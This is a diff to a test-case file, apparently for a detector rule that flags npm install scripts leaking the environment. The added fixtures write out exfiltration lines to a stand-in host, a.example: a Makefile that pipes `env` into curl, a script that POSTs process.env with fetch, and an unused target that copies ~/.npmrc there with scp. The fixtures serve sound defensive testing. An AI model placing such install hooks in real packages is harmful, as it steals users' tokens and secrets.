@@ -3,6 +3,22 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'the environment, by the recipe of a Makefile',
+      manifest: { scripts: { postinstall: 'make -s' } },
+      files: {
+        'index.js': '',
+        Makefile: 'H := https://a.example\nall: report\nreport:\n\t@env | curl -s -d @- $(H)\n',
+      },
+    },
+    {
+      name: 'the environment, in a folder that a command of the install changes to',
+      manifest: { scripts: { postinstall: 'cd lib && node a' } },
+      files: {
+        'index.js': '',
+        'lib/a.js': "fetch('https://a.example', { method: 'POST', body: JSON.stringify(process.env) });",
+      },
+    },
+    {
       name: 'the environment, in a text that the install gives to Python',
       manifest: {
         scripts: {
@@ -143,6 +159,14 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'a recipe that nothing asks for',
+      manifest: { scripts: { install: 'make -s' } },
+      files: {
+        'index.js': '',
+        Makefile: 'all: x.o\nx.o: x.c\n\t$(CC) -c x.c\ndeploy:\n\tscp $$HOME/.npmrc a@a.example:\n',
+      },
+    },
     {
       name: 'Python that reads settings, and downloads',
       manifest: { scripts: { preinstall: 'python3 find.py', install: 'python3 get.py' } },
